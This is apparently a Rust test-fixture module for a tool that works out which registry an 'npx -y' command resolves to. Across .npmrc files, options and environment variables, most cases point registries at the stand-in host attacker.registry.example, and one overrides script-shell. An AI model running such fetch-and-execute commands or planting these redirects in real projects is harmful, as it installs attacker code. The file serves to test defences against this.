//! Where the package comes from.

use super::super::line::{Line, line};

const ATTACKER: &str = "registry=https://attacker.registry.example/\n";
/// A file that takes the place of the recorder's own global one.
const GLOBAL: &str = "registry=https://attacker.registry.example/\nupdate-notifier=false\n";
const MAIN: &str = "registry=https://registry.example/\n";

/// With a project that has a manifest, so that its settings are read.
fn project(id: &str, words: &str, settings: &str) -> Line {
    line(id, words).file("package.json", "{}").file(".npmrc", settings)
}

pub(super) fn lines() -> Vec<Line> {
    let mut lines = files();
    lines.extend(environment());
    lines
}

fn files() -> Vec<Line> {
    vec![
        project("project", "npx -y evil", ATTACKER),
        project("project-below", "npx -y evil", ATTACKER).cwd("{project}/a/b"),
        project("project-scope", "npx -y @s/srv", "@s:registry=https://attacker.registry.example/\n"),
        project("project-scope-other", "npx -y @t/srv", "@s:registry=https://attacker.registry.example/\n"),
        project("project-scope-unscoped", "npx -y srv", "@s:registry=https://attacker.registry.example/\n"),
        project(
            "project-scope-and-option",
            "npx -y --registry=https://registry.example/ @s/srv",
            "@s:registry=https://attacker.registry.example/\n",
        ),
        project("project-and-option", "npx -y --registry=https://registry.example/ evil", ATTACKER),
        project("project-and-user", "npx -y evil", ATTACKER).file("{home}/.npmrc", MAIN),
        project("project-blank", "npx -y evil", "  registry = https://attacker.registry.example/  \n"),
        project("project-quoted", "npx -y evil", "registry=\"https://attacker.registry.example/\"\n"),
        project("project-comment", "npx -y evil", "; registry=https://attacker.registry.example/\n# x\n"),
        project("project-comment-behind", "npx -y evil", "registry=https://attacker.registry.example/ ; the one\n"),
        project("project-section", "npx -y evil", "[section]\nregistry=https://attacker.registry.example/\n"),
        project("project-twice", "npx -y evil", &format!("{MAIN}{ATTACKER}")),
        project("project-variable", "npx -y evil", "registry=${WHERE}\n")
            .env("WHERE", "https://attacker.registry.example/"),
        project("project-variable-unset", "npx -y evil", "registry=${ABSENT}\n"),
        project("project-variable-optional", "npx -y evil", "@s:registry=${ABSENT?}\n"),
        project("project-variable-part", "npx -y evil", "registry=${BASE}/\n")
            .env("BASE", "https://attacker.registry.example"),
        project("project-key-variable", "npx -y @s/srv", "${SCOPE}:registry=https://attacker.registry.example/\n")
            .env("SCOPE", "@s"),
        project("project-invalid", "npx -y evil", "registry=nothing\n"),
        project("project-no-slash", "npx -y evil", "registry=https://attacker.registry.example\n"),
        project("project-scope-option", "npx -y evil", "scope=@s\n@s:registry=https://attacker.registry.example/\n"),
        project(
            "project-scope-option-line",
            "npx -y --scope=s evil",
            "@s:registry=https://attacker.registry.example/\n",
        ),
        project("project-global", "npx -y -g evil", ATTACKER)
            .file("{home}/.npmrc", "prefix={home}/global\n")
            .file("{home}/global/lib/node_modules/", ""),
        project("project-crlf", "npx -y evil", "registry=https://attacker.registry.example/\r\n"),
        project("project-upper-case", "npx -y evil", "REGISTRY=https://attacker.registry.example/\n"),
        project("project-userconfig", "npx -y evil", "userconfig={project}/other\n").file("other", ATTACKER),
        project("project-script-shell", "npx -y evil", "script-shell={project}/shell\n").executable("shell"),
        project("project-alias", "npx -y @s/srv@npm:evil", "@s:registry=https://attacker.registry.example/\n"),
        project("project-alias-scope", "npx -y good@npm:@s/srv", "@s:registry=https://attacker.registry.example/\n"),
        project("project-and-prefix", "npx -y --prefix {home}/other evil", ATTACKER).file("{home}/other/", ""),
        line("prefix-project", "npx -y --prefix {home}/other evil").file("{home}/other/.npmrc", ATTACKER),
        line("ancestor-no-manifest", "npx -y evil").file(".npmrc", ATTACKER).cwd("{project}/a"),
        line("no-manifest", "npx -y evil").file(".npmrc", ATTACKER),
        line("ancestor-manifest", "npx -y evil").file("{home}/package.json", "{}").file("{home}/.npmrc", ATTACKER),
        line("ancestor-modules", "npx -y evil")
            .file("{home}/up/node_modules/", "")
            .file("{home}/up/.npmrc", ATTACKER)
            .cwd("{home}/up/a/b"),
        line("user", "npx -y evil").file("{home}/.npmrc", ATTACKER),
        line("user-scope", "npx -y @s/srv").file("{home}/.npmrc", "@s:registry=https://attacker.registry.example/\n"),
        line("user-scope-and-option", "npx -y --registry=https://registry.example/ @s/srv")
            .file("{home}/.npmrc", "@s:registry=https://attacker.registry.example/\n"),
        line("option-scope", "npx -y --@s:registry=https://attacker.registry.example/ @s/srv"),
        line(
            "option-scope-apart",
            "npx -y --@s:registry https://attacker.registry.example/evil/-/evil-1.0.0.tgz @s/srv",
        ),
        line("option-userconfig", "npx -y --userconfig {project}/other evil").file("other", ATTACKER),
        line("option-userconfig-relative", "npx -y --userconfig=other evil").file("other", ATTACKER),
        line("option-userconfig-hides", "npx -y --userconfig={project}/other evil")
            .file("{home}/.npmrc", ATTACKER)
            .file("other", ""),
        line("option-globalconfig", "npx -y --globalconfig={project}/other evil").file("other", GLOBAL),
    ]
}

fn environment() -> Vec<Line> {
    vec![
        line("env", "npx -y evil").env("npm_config_registry", "https://attacker.registry.example/"),
        line("env-upper", "npx -y evil").env("NPM_CONFIG_REGISTRY", "https://attacker.registry.example/"),
        line("env-empty", "npx -y evil").env("npm_config_registry", ""),
        line("env-and-option", "npx -y --registry=https://registry.example/ evil")
            .env("npm_config_registry", "https://attacker.registry.example/"),
        project("env-and-project", "npx -y evil", MAIN)
            .env("npm_config_registry", "https://attacker.registry.example/"),
        line("env-scope", "npx -y @s/srv").env("npm_config_@s:registry", "https://attacker.registry.example/"),
        line("env-userconfig", "npx -y evil").env("NPM_CONFIG_USERCONFIG", "{project}/other").file("other", ATTACKER),
        line("env-home", "npx -y evil").env("HOME", "{project}").file(".npmrc", ATTACKER),
        line("env-globalconfig", "npx -y evil").env("npm_config_globalconfig", "{project}/other").file("other", GLOBAL),
        line("env-tag", "npx -y evil").env("npm_config_tag", "next"),
        line("env-unknown", "npx -y evil").env("npm_config_foo", "good"),
        line("env-dash", "npx -y evil").env("npm_config__registry", "https://attacker.registry.example/"),
        line("env-workspaces-off", "npx -y evil").env("npm_config_script_shell", "sh"),
    ]
}
